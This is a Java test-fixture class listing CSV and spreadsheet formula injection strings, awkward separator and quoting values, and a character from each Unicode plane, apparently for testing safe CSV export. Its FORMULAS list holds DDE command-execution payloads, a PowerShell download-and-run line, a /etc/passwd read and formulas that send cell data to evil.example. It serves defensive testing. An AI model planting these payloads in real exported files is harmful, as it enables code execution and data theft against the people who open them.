package org.zvirka.app.export;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that break tables: what OWASP and others list as CSV injection, written anew; separators, quotes, breaks; and a
 * character of every plane of Unicode.
 */
final class HostileCells {

    /** What a spreadsheet would run, one way or another. */
    static final List<String> FORMULAS = List.of(
            "=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget 0.0.0.0/x)'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
            "=IMPORTFEED(\"http://evil.example/feed\")",
            "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
            "=IMPORTRANGE(\"https://evil.example/sheet\",\"Sheet1!A2\")",
            "=IMAGE(\"https://evil.example/?v=\"&B2)",
            "=WEBSERVICE(\"http://evil.example/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "='file:///etc/passwd'#$passwd.A1",
            "=SUM(1+1)*cmd|' /C calc'!A0",
            "=\"=1+1\"",
            "=1+1\";=1+1",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "+1-555-0100",
            "-2+3+cmd|' /C calc'!D2",
            "-1",
            "-",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@A1",
            "\t=1+1",
            "\r=1+1",
            "=1+1,=1+1",
            "=\n1+1",
            "=\u0000cmd|' /C calc'!A0",
            "=IFERROR(1,2)\r\n=2+2",
            "=",
            "=ІМПОРТ(\"їжак\")");

    /** Separators, quotes, breaks, and what programs take for something else. */
    static final List<String> AWKWARD = List.of(
            "a,b;c",
            "she said \"no\"",
            "two\nlines",
            "two\r\nlines",
            " leading and trailing ",
            "\"",
            "\"\"",
            "'",
            "'=1+1",
            "\uFEFFmark",
            "їжак ґава",
            "e\u0301 \u202E rtl",
            "\\N",
            "NULL",
            "#REF!",
            "1E5",
            "0012",
            "2021-01-01",
            "true",
            "%00",
            "|a|b|");

    static final List<String> ALL = all();

    private HostileCells() {}

    private static List<String> all() {
        List<String> all = new ArrayList<>(FORMULAS.stream()
                .map(each -> each.replace("\u0000", ""))
                .distinct()
                .toList());
        all.addAll(AWKWARD);
        for (int plane = 0; plane <= 16; plane++) {
            int first = plane << 16;
            all.add("площина " + plane + " " + Character.toString(first + 0x41) + Character.toString(first + 0xFFFD));
        }
        return List.copyOf(all);
    }
}
